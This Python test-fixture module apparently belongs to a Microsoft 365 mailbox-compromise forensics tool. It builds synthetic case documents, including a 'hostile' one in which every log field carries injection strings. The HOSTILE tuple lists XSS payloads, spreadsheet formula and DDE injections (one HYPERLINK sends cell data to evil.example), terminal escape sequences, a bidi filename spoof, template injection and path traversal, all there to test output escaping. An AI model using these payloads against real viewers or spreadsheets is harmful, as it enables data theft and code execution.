"""Two case documents made by hand: a rich one that a reader could get, and one whose log text attacks every sink."""

import datetime as dt
from dataclasses import replace

from brokenseal.model import (
    Activity,
    ActivityCell,
    Alarm,
    Case,
    CaseDocument,
    Cited,
    Coverage,
    DetectorState,
    Evidence,
    ExposedFolder,
    ExposedMessage,
    Exposure,
    Finding,
    Gap,
    HourCell,
    InputFile,
    Inputs,
    MailboxCoverage,
    MailboxExposure,
    MatrixCell,
    OpenEnded,
    Rejected,
    Severity,
    SourceCoverage,
    TokenProvenance,
    Verdict,
)
from brokenseal.wording import phrase
from reports.assessments import hostile_assessment, rich_assessment

START = dt.datetime(2024, 5, 6, tzinfo=dt.UTC)
PEOPLE = ("anna.lindqvist", "b.moreau", "carla.diaz", "d.okafor", "eva.novak", "finance")
MAILBOXES = tuple(f"{name}@contoso.example" for name in PEOPLE)
ODD_CLIENT = "Client=REST;Client=RESTSystem;;"
CLIENTS = ("Client=OWA;Action=ViaProxy", "Client=OutlookService;Outlook-iOS/2.0", "Client=MSExchangeRPC")
SUBJECTS = (
    "Budget for the second quarter",
    "Re: Travel to Geneva",
    "Draft of the press line",
    "Minutes of the board, confidential",
    "Renewal of the lease",
    "Invoice 4471",
    "Short list for the director's post",
)

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r\nSet-Cookie: x=1",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred",
    "invoice\u202efdp.exe",
    "\u2066hidden\u2069",
    "nul\x00byte",
    "{{7*7}} {% raw %}",
    "%s %(x)s {0} {subject} {",
    "](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "`code` ``` | pipe | **bold** <!-- --> &lt;",
    "[bold red]markup[/] [link=http://evil.example]x[/link]",
    "javascript:alert(1)//http://evil.example",
    "plain;=1+1,=2+2",
    "\ufffe\uffff\x85\u2028line",
    "../../etc/passwd\\..\\x",
    "שלום world",
    "long " * 9000,
)


def at(day, hour=0, minute=0, second=0):
    return START + dt.timedelta(days=day, hours=hour, minutes=minute, seconds=second)


def event(number):
    return f"{number:08x}-3f4e-445b-bb2e-{number:012x}"


def message(number, mailbox, *, client=ODD_CLIENT, address="203.0.113.77", subject=True, day=20):
    first = at(day, 2 + number % 6, number % 60, 7)
    return ExposedMessage(
        mailbox=mailbox,
        internet_message_id=f"<{number:06d}.contoso@mail.example>",
        subject=SUBJECTS[number % len(SUBJECTS)] if subject else None,
        sender=f"partner{number % 5}@fabrikam.example" if subject else None,
        recipients=(mailbox,) if subject else (),
        folder_path="\\Inbox" if number % 3 else "\\Archive\\2024",
        size_bytes=3476 + 311 * number,
        first_at=first,
        last_at=first + dt.timedelta(hours=number % 4),
        entries=1 + number % 3,
        clients=(client,),
        addresses=(address,),
        sessions=("637a72b7-3f4e-445b-bb2e-4605eb2a141b",),
        event_ids=tuple(event(1000 + number + step) for step in range(1 + number % 5)),
    )


def mailbox_exposure(mailbox, messages, *, possible=0, folders=0, unknowable=0, accesses=None):
    return MailboxExposure(
        mailbox=mailbox,
        mailbox_key=f"upn:{mailbox}",
        accesses=accesses or len(messages),
        item_entries=sum(line.entries for line in messages),
        certain=len(messages),
        possible=possible,
        possible_folders=folders,
        unknowable=unknowable,
        first_at=min((line.first_at for line in messages), default=None),
        last_at=max((line.last_at for line in messages), default=None),
        clients=tuple(sorted({client for line in messages for client in line.clients})),
        addresses=tuple(sorted({address for line in messages for address in line.addresses})),
    )


def exposure(selection, messages, *, folders=(), open_ended=()):
    names = sorted(
        {line.mailbox for line in messages}
        | {folder.mailbox for folder in folders}
        | {span.mailbox for span in open_ended}
    )
    boxes = tuple(
        mailbox_exposure(
            name,
            [line for line in messages if line.mailbox == name],
            possible=sum(folder.known_messages or 0 for folder in folders if folder.mailbox == name),
            folders=sum(folder.mailbox == name for folder in folders),
            unknowable=sum(span.mailbox == name for span in open_ended),
        )
        for name in names
    )
    return Exposure(
        selection=selection,
        accesses=sum(box.accesses for box in boxes),
        certain=len(messages),
        possible=sum(box.possible for box in boxes),
        unknowable=len(open_ended),
        mailboxes=boxes,
        messages=tuple(messages),
        folders=tuple(folders),
        open_ended=tuple(open_ended),
    )


def finding(number, detector_id, title, severity, evidence, **values):
    return Finding(
        id=f"{number:016x}",
        detector_id=detector_id,
        variant=values.get("variant", "plain"),
        group_key=f"group {number}",
        title=title,
        severity=severity,
        is_notice=values.get("is_notice", False),
        attack=values.get("attack", ("T1114.002",)),
        innocent=values.get("innocent", phrase("A new program that the owner of the mailbox set up.")),
        settles=values.get("settles", phrase("Ask the owner, and look for the program on the owner's computer.")),
        first_at=min(item.occurred_at for item in evidence),
        last_at=max(item.occurred_at for item in evidence),
        evidence=tuple(evidence),
        mailboxes=values.get("mailboxes", MAILBOXES[:2]),
        actors=values.get("actors", ("anna.lindqvist@contoso.example",)),
        addresses=values.get("addresses", ("203.0.113.77",)),
        sessions=values.get("sessions", ("637a72b7-3f4e-445b-bb2e-4605eb2a141b",)),
        objects=values.get("objects", ()),
    )


def _evidence(start, count, role, day):
    return [Evidence(event_id=event(start + step), role=role, occurred_at=at(day, 2, step, 3)) for step in range(count)]


def _cases():
    read = [message(number, MAILBOXES[number % 3]) for number in range(38)]
    folder = ExposedFolder(
        mailbox=MAILBOXES[3],
        folder_path="\\Inbox",
        folder_id="LgAAAABx",
        first_at=at(22, 3),
        last_at=at(24, 5),
        known_messages=214,
        event_ids=(event(4000), event(4001)),
    )
    span = OpenEnded(
        mailbox=MAILBOXES[0],
        reason="throttled",
        first_at=at(23, 4),
        last_at=at(24, 4),
        explanation=phrase("Auditing of this mailbox was throttled: more was read than these records show."),
        event_ids=(event(4100),),
    )
    client = finding(
        0xA1,
        "mail_access.first_seen_client",
        phrase("A client never seen before read {n_mailboxes} mailboxes: {objects}", n_mailboxes=3, objects=ODD_CLIENT),
        Severity.CRITICAL,
        _evidence(1000, 40, "read", 20),
        mailboxes=MAILBOXES[:3],
        objects=(ODD_CLIENT,),
    )
    token = finding(
        0xA2,
        "mail_access.token_provenance",
        phrase("Mail was read with {n} tokens that no log shows being issued", n=4),
        Severity.CRITICAL,
        _evidence(1010, 6, "read", 20),
        attack=("T1606", "T1550.001"),
        innocent=phrase("The sign-in log has gaps, or a category of sign-ins was not exported."),
        settles=phrase("Export the non-interactive sign-ins of {first_at} and look again.", first_at=at(20, 2)),
    )
    rule = finding(
        0xB1,
        "inbox_rule.hides_mail",
        phrase("An inbox rule named {objects} hides mail about invoices", objects="."),
        Severity.HIGH,
        _evidence(2000, 2, "rule", 12),
        attack=("T1564.008", "T1114.003"),
        mailboxes=(MAILBOXES[5],),
        actors=("finance@contoso.example",),
        addresses=("198.51.100.20",),
        objects=(".",),
    )
    spray = finding(
        0xC1,
        "sign_in.password_spray",
        phrase("One address tried {n} accounts with few passwords", n=118),
        Severity.MEDIUM,
        _evidence(3000, 30, "failure", 9) + _evidence(3100, 1, "success", 9),
        attack=("T1110.003",),
        mailboxes=(),
        actors=("eva.novak@contoso.example", "d.okafor@contoso.example"),
        addresses=("192.0.2.44",),
    )

    def case(number, title, severity, findings, seen, *, summary=(), assessment=None):
        return Case(
            id=f"case-{number:012x}",
            title=title,
            summary=summary,
            severity=severity,
            mailboxes=tuple(sorted({name for found in findings for name in found.mailboxes})),
            actors=tuple(sorted({name for found in findings for name in found.actors})),
            addresses=tuple(sorted({name for found in findings for name in found.addresses})),
            first_at=min(found.first_at for found in findings),
            last_at=max(found.last_at for found in findings),
            attack=tuple(sorted({technique for found in findings for technique in found.attack})),
            findings=tuple(findings),
            links=(phrase("Both findings rest on the session {session}.", session="637a72b7"),) * (len(findings) > 1),
            exposure=seen,
            next_steps=(
                phrase("Revoke the sessions of {actors}.", actors=findings[0].actors[0]),
                phrase("Keep the raw exports: they are evidence."),
            ),
            assessment=assessment,
        )

    return (
        case(
            0x5EA1,
            phrase("Mail of {n} mailboxes was read with tokens that nobody issued", n=3),
            Severity.CRITICAL,
            (client, token),
            exposure("case-000000005ea1", read, folders=(folder,), open_ended=(span,)),
            summary=(
                phrase(
                    "From {first_at} on, {client} read mail from {ip}.",
                    first_at=at(20, 2),
                    client=ODD_CLIENT,
                    ip="203.0.113.77",
                ),
                phrase("No sign-in log shows these tokens being issued."),
            ),
            assessment=rich_assessment((event(1000), event(1010))),
        ),
        case(
            0x5EA2,
            phrase("The mailbox {mailbox} was turned against its owner", mailbox=MAILBOXES[5]),
            Severity.HIGH,
            (rule,),
            exposure("case-000000005ea2", [message(70 + step, MAILBOXES[5], day=12) for step in range(9)]),
        ),
        case(
            0x5EA3,
            phrase("Passwords were guessed from {address}", address="192.0.2.44"),
            Severity.MEDIUM,
            (spray,),
            exposure("case-000000005ea3", []),
        ),
    )


def _coverage():
    everything = phrase("Nobody can say which tokens were issued to programs that run without a user.")
    return Coverage(
        first_at=at(0),
        last_at=at(28),
        tenants=("11111111-2222-3333-4444-555555555555",),
        sources=(
            SourceCoverage(
                source="unified_audit",
                title=phrase("Unified audit log"),
                present=True,
                records=48_211,
                first_at=at(0),
                last_at=at(28),
                gaps=(Gap(source="unified_audit", first_at=at(15, 6), last_at=at(16, 9), expected_records=812.5),),
                without_it=phrase("Nothing can be said about mail."),
            ),
            SourceCoverage(
                source="entra_sign_in.interactive",
                title=phrase("Interactive sign-ins"),
                present=True,
                records=6_120,
                first_at=at(4),
                last_at=at(28),
                gaps=(),
                without_it=phrase("Nobody can say who signed in."),
            ),
            SourceCoverage(
                source="entra_sign_in.non_interactive",
                title=phrase("Non-interactive sign-ins"),
                present=False,
                records=0,
                first_at=None,
                last_at=None,
                gaps=(),
                without_it=everything,
            ),
            SourceCoverage(
                source="message_trace",
                title=phrase("Message trace"),
                present=True,
                records=9_402,
                first_at=at(18),
                last_at=at(28),
                gaps=(),
                without_it=phrase("Subjects and senders are missing where the audit log does not give them."),
            ),
        ),
        mailboxes=tuple(
            MailboxCoverage(
                mailbox=name,
                mailbox_key=f"upn:{name}",
                has_mail_access=name != MAILBOXES[4],
                accesses=0 if name == MAILBOXES[4] else 300 + 17 * place,
                first_at=None if name == MAILBOXES[4] else at(place),
                last_at=None if name == MAILBOXES[4] else at(28),
                throttled_days=("2024-05-29",) if place == 0 else (),
                audit_bypassed=None if place else False,
                with_session=None if name == MAILBOXES[4] else 0.93,
                with_token=None if name == MAILBOXES[4] else 0.4125,
                event_ids=(event(4100),) if place == 0 else (),
            )
            for place, name in enumerate(MAILBOXES)
        ),
        mail_accesses=1_925,
        with_session=0.93,
        with_token=0.4125,
        alarms=(
            Alarm(
                code="at_cap",
                place="exports/audit-2024-05.csv",
                explanation=phrase("The file ends at exactly {n} records: more may have been cut off.", n=50_000),
            ),
        ),
        cannot_tell=(
            phrase("Non-interactive sign-ins are missing: most tokens are issued there."),
            phrase("The mailbox {mailbox} has no MailItemsAccessed record at all.", mailbox=MAILBOXES[4]),
            phrase("Before {first_at} there are no logs.", first_at=at(0)),
        ),
        unmet_needs=("sign_ins.non_interactive",),
    )


def _activity():
    days, hours, matrix = [], [], []
    for place, name in enumerate(MAILBOXES):
        for day in range(28):
            if (START + dt.timedelta(days=day)).weekday() < 5:
                days.append(_day(day, name, CLIENTS[place % 3], 6 + (day * 7 + place * 3) % 23, in_case=False))
            if place < 3 and day >= 20:
                days.append(_day(day, name, ODD_CLIENT, 4 + (day + place) % 9, in_case=True))
        matrix.append(
            MatrixCell(
                mailbox=name,
                actor=name,
                client=CLIENTS[place % 3],
                accesses=240 + place,
                messages=190 + 3 * place,
                in_case=False,
            )
        )
        if place < 3:
            matrix.append(
                MatrixCell(
                    mailbox=name, actor=MAILBOXES[0], client=ODD_CLIENT, accesses=16, messages=12 + place, in_case=True
                )
            )
    for weekday in range(7):
        for hour in range(24):
            normal = (40 + (hour * 7 + weekday * 11) % 37) if weekday < 5 and 7 <= hour <= 17 else (hour + weekday) % 3
            odd = 9 + (hour * 5 + weekday) % 8 if weekday < 5 and 0 <= hour <= 5 else 0
            if normal + odd:
                hours.append(HourCell(weekday=weekday, hour=hour, accesses=normal + odd, in_case=odd))
    return Activity(days=tuple(days), hours=tuple(hours), matrix=tuple(matrix))


def _day(day, mailbox, client, accesses, *, in_case):
    return ActivityCell(
        day=f"{START + dt.timedelta(days=day):%Y-%m-%d}",
        mailbox=mailbox,
        client=client,
        accesses=accesses,
        item_entries=accesses * 2,
        in_case=in_case,
    )


def _inputs():
    def file(path, **values):
        fields = {
            "shape": "purview_portal_csv",
            "outcome": "ingested",
            "records": 50_000,
            "kept": 48_211,
            "duplicates": 1_786,
            "rejected": 3,
            "ignored": 0,
            "first_at": at(0),
            "last_at": at(28),
            "alarms": (),
        }
        return InputFile(path=path, sha256="9f" * 32, size_bytes=81_335_112, **{**fields, **values})

    return Inputs(
        records=65_535,
        kept=63_733,
        duplicates=1_786,
        rejected=3,
        ignored=13,
        files=(
            file("exports/audit-2024-05.csv", alarms=("at_cap: 50000",)),
            file(
                "exports/signins.zip!interactive.json",
                shape="entra_sign_in_json",
                records=6_120,
                kept=6_120,
                duplicates=0,
                rejected=0,
            ),
            file(
                "exports/trace.csv",
                shape="message_trace_csv",
                records=9_402,
                kept=9_402,
                duplicates=0,
                rejected=0,
                first_at=at(18),
            ),
            file(
                "exports/notes.json",
                shape=None,
                outcome="not_an_audit_log",
                records=13,
                kept=0,
                duplicates=0,
                rejected=0,
                ignored=13,
                first_at=None,
                last_at=None,
            ),
        ),
        quarantine=(
            Rejected(
                path="exports/audit-2024-05.csv",
                record_no=4127,
                reason="not_json",
                column="AuditData",
                expected="one JSON object",
                salvaged_id="0c1d2e3f-0000-0000-0000-000000000001",
                salvaged_operation="MailItemsAccessed",
                salvaged_at=at(20, 2, 7),
                salvaged_actor="anna.lindqvist@contoso.example",
            ),
            Rejected(
                path="exports/audit-2024-05.csv",
                record_no=4200,
                reason="empty_record",
                column=None,
                expected=None,
                salvaged_id=None,
                salvaged_operation=None,
                salvaged_at=None,
                salvaged_actor=None,
            ),
        ),
    )


def cited(event_id, *, occurred_at=None, **values):
    fields = {
        "operation": "MailItemsAccessed",
        "actor": "anna.lindqvist@contoso.example",
        "mailbox": MAILBOXES[0],
        "client_ip": "203.0.113.77",
        "client": ODD_CLIENT,
        "app": "00000003-0000-0000-c000-000000000000",
        "session_id": "637a72b7-3f4e-445b-bb2e-4605eb2a141b",
        "token_id": None,
        "object_id": None,
    }
    return Cited(event_id=event_id, occurred_at=occurred_at or at(20, 2), **{**fields, **values})


def cite(cases, notices, seen, coverage):
    """Every record that the parts cite, as `case.cited_ids` gathers them."""
    found = {}
    for finding_ in (*notices, *(one for case in cases for one in case.findings)):
        for item in finding_.evidence:
            found[item.event_id] = cited(item.event_id, occurred_at=item.occurred_at)
    for part in (seen, *(case.exposure for case in cases)):
        for line in (*part.messages, *part.folders, *part.open_ended):
            for event_id in line.event_ids:
                found.setdefault(event_id, cited(event_id, occurred_at=line.first_at))
    for mailbox in coverage.mailboxes:
        for event_id in mailbox.event_ids:
            found.setdefault(event_id, cited(event_id))
    return dict(sorted(found.items()))


def rich_document():
    """Three cases, a notice, every kind of exposure, a gap, an alarm, quarantine and all pictures."""
    cases = _cases()
    coverage = _coverage()
    notice = finding(
        0xD1,
        "consent.user",
        phrase("A user agreed to an application: {objects}", objects="Calendar Helper"),
        Severity.LOW,
        _evidence(5000, 1, "consent", 14),
        is_notice=True,
        attack=("T1528",),
        objects=("Calendar Helper",),
    )
    own = [
        message(
            200 + step,
            MAILBOXES[step % 6],
            client=CLIENTS[0],
            address="198.51.100.9",
            subject=step % 4 > 0,
            day=step % 26,
        )
        for step in range(60)
    ]
    everything = exposure(
        "all",
        [*(line for case in cases for line in case.exposure.messages), *own],
        folders=cases[0].exposure.folders,
        open_ended=(
            *cases[0].exposure.open_ended,
            OpenEnded(
                mailbox=MAILBOXES[4],
                reason="no_mail_access_log",
                first_at=None,
                last_at=None,
                explanation=phrase("No record says what was read of this mailbox, or that nothing was."),
                event_ids=(),
            ),
        ),
    )
    states = (
        ("mail_access.first_seen_client", "First client of its kind on a mailbox", "fired", None, 1),
        ("mail_access.token_provenance", "Tokens that nobody issued", "fired", None, 1),
        ("inbox_rule.hides_mail", "Inbox rules that hide or forward", "fired", None, 1),
        ("sign_in.password_spray", "Password spray", "fired", None, 1),
        ("app.credential_added", "New keys for applications", "quiet", None, 0),
        ("domain.federation", "Federation changed", "not_assessable", phrase("The directory audit log is missing."), 0),
    )
    return CaseDocument(
        format=1,
        product_version="0.1.0",
        verdict=Verdict(
            kind="found",
            headline=phrase(
                "Somebody acted without the right to: {cases} case(s) touching {mailboxes} mailbox(es); "
                "{certain} message(s) were read with certainty.",
                cases=3,
                mailboxes=4,
                certain=47,
            ),
            reasons=coverage.cannot_tell,
        ),
        cases=cases,
        notices=(notice,),
        detectors=tuple(
            DetectorState(detector_id=key, title=phrase(title), state=state, reason=reason, findings=count)
            for key, title, state, reason, count in states
        ),
        token_provenance=TokenProvenance(
            issued=611,
            not_issued=6,
            cannot_tell=1_308,
            cannot_tell_reasons={"no_token_id": 1_131, "outside_sign_in_window": 177},
        ),
        exposure=everything,
        coverage=coverage,
        activity=_activity(),
        inputs=_inputs(),
        table_versions={"events": 4, "mail_accesses": 4, "sign_ins": 2},
        cited=cite(cases, (notice,), everything, coverage),
    )


def empty_document(kind="nothing_found"):
    """No record at all said anything: every list is empty."""
    nothing = exposure("all", [])
    coverage = Coverage(
        first_at=None,
        last_at=None,
        tenants=(),
        sources=(),
        mailboxes=(),
        mail_accesses=0,
        with_session=None,
        with_token=None,
        alarms=(),
        cannot_tell=(),
        unmet_needs=(),
    )
    return CaseDocument(
        format=1,
        product_version="0.1.0",
        verdict=Verdict(
            kind=kind,
            headline=phrase("Nothing was found, and the logs that would have shown it are there."),
            reasons=(),
        ),
        cases=(),
        notices=(),
        detectors=(),
        token_provenance=TokenProvenance(issued=0, not_issued=0, cannot_tell=0),
        exposure=nothing,
        coverage=coverage,
        activity=Activity(days=(), hours=(), matrix=()),
        inputs=Inputs(records=0, kept=0, duplicates=0, rejected=0, ignored=0, files=(), quarantine=()),
        table_versions={},
        cited={},
    )


def hostile_document(texts=HOSTILE):
    """Every field that holds log text holds an attack, once for each of at least 16 texts."""
    messages, evidence, records = [], [], {}
    for number, text in enumerate(texts):
        event_id = text if number % 2 else f"sha256:{number:064x}"
        evidence.append(Evidence(event_id=event_id, role=text, occurred_at=at(1, number % 24)))
        records[event_id] = cited(
            event_id, operation=text, actor=text, mailbox=text, client_ip=text, client=text, app=text,
            session_id=text, token_id=text, object_id=text,
        )  # fmt: skip
        messages.append(
            ExposedMessage(
                mailbox=text, internet_message_id=text, subject=text, sender=text, recipients=(text,), folder_path=text,
                size_bytes=1, first_at=at(1), last_at=at(2), entries=1, clients=(text,), addresses=(text,),
                sessions=(text,), event_ids=(event_id,),
            )
        )  # fmt: skip
    folders = tuple(
        ExposedFolder(
            mailbox=text, folder_path=text, folder_id=text, first_at=at(1), last_at=at(2), known_messages=None,
            event_ids=(evidence[0].event_id,),
        )
        for text in texts
    )  # fmt: skip
    spans = tuple(
        OpenEnded(
            mailbox=text, reason=text, first_at=None, last_at=None, explanation=phrase("What {text} says", text=text),
            event_ids=(),
        )
        for text in texts
    )  # fmt: skip
    found = finding(
        0xE1, texts[0], phrase("Rule {text} and {other}", text=texts[0], other=texts[13]), Severity.CRITICAL,
        evidence, mailboxes=texts, actors=texts, addresses=texts, sessions=texts, objects=texts,
        attack=(texts[1], "T1114.002"), innocent=phrase("{text}", text=texts[1]), settles=phrase("{text}", text=texts[14]),
    )  # fmt: skip
    seen = exposure("case-0000000000e1", messages, folders=folders, open_ended=spans)
    rich = rich_document()
    case = Case(
        id="case-0000000000e1",
        title=phrase("Case about {text}", text=texts[8]),
        summary=tuple(phrase("It said {text}.", text=text) for text in texts),
        severity=Severity.CRITICAL,
        mailboxes=texts,
        actors=texts,
        addresses=texts,
        first_at=at(1),
        last_at=at(2),
        attack=(texts[1],),
        findings=(found,),
        links=(phrase("Linked by {text}", text=texts[10]),),
        exposure=seen,
        next_steps=(phrase("Ask {text}", text=texts[15]),),
        assessment=hostile_assessment(texts),
    )
    activity = Activity(
        days=tuple(
            ActivityCell(day="2024-05-07", mailbox=text, client=text, accesses=3, item_entries=3, in_case=True)
            for text in texts
        ),
        hours=(HourCell(weekday=0, hour=0, accesses=1, in_case=1),),
        matrix=tuple(
            MatrixCell(mailbox=text, actor=text, client=text, accesses=1, messages=1, in_case=True) for text in texts
        ),
    )
    inputs = Inputs(
        records=1, kept=1, duplicates=0, rejected=len(texts), ignored=0,
        files=tuple(
            InputFile(
                path=text, sha256="00" * 32, size_bytes=1, shape=text, outcome=text, records=1, kept=1, duplicates=0,
                rejected=0, ignored=0, first_at=None, last_at=None, alarms=(text,),
            )
            for text in texts
        ),
        quarantine=tuple(
            Rejected(
                path=text, record_no=1, reason=text, column=text, expected=text, salvaged_id=text,
                salvaged_operation=text, salvaged_at=None, salvaged_actor=text,
            )
            for text in texts
        ),
    )  # fmt: skip
    coverage = Coverage(
        first_at=at(0), last_at=at(3), tenants=texts,
        sources=tuple(
            SourceCoverage(
                source=text, title=phrase("{text}", text=text), present=True, records=1, first_at=at(0), last_at=at(3),
                gaps=(Gap(source=text, first_at=at(1), last_at=at(2), expected_records=1.5),), without_it=phrase("{text}", text=text),
            )
            for text in texts
        ),
        mailboxes=tuple(
            MailboxCoverage(
                mailbox=text, mailbox_key=text, has_mail_access=True, accesses=1, first_at=at(0), last_at=at(1),
                throttled_days=(text,), audit_bypassed=None, with_session=0.5, with_token=None,
                event_ids=(evidence[0].event_id,),
            )
            for text in texts
        ),
        mail_accesses=1, with_session=None, with_token=None,
        alarms=tuple(Alarm(code=text, place=text, explanation=phrase("{text}", text=text)) for text in texts),
        cannot_tell=tuple(phrase("Not {text}", text=text) for text in texts),
        unmet_needs=texts,
    )  # fmt: skip
    return CaseDocument(
        format=1,
        product_version="0.1.0",
        verdict=Verdict(kind="found", headline=phrase("Found {text}", text=texts[1]), reasons=coverage.cannot_tell),
        cases=(case,),
        notices=(replace(found, id=f"{0xE2:016x}"),),
        detectors=(
            DetectorState(
                detector_id=texts[0],
                title=phrase("{text}", text=texts[1]),
                state="not_assessable",
                reason=phrase("{text}", text=texts[1]),
                findings=0,
            ),
        ),
        token_provenance=TokenProvenance(issued=0, not_issued=1, cannot_tell=1, cannot_tell_reasons={texts[1]: 1}),
        exposure=seen,
        coverage=coverage,
        activity=activity,
        inputs=inputs,
        table_versions=rich.table_versions,
        cited=records,
    )
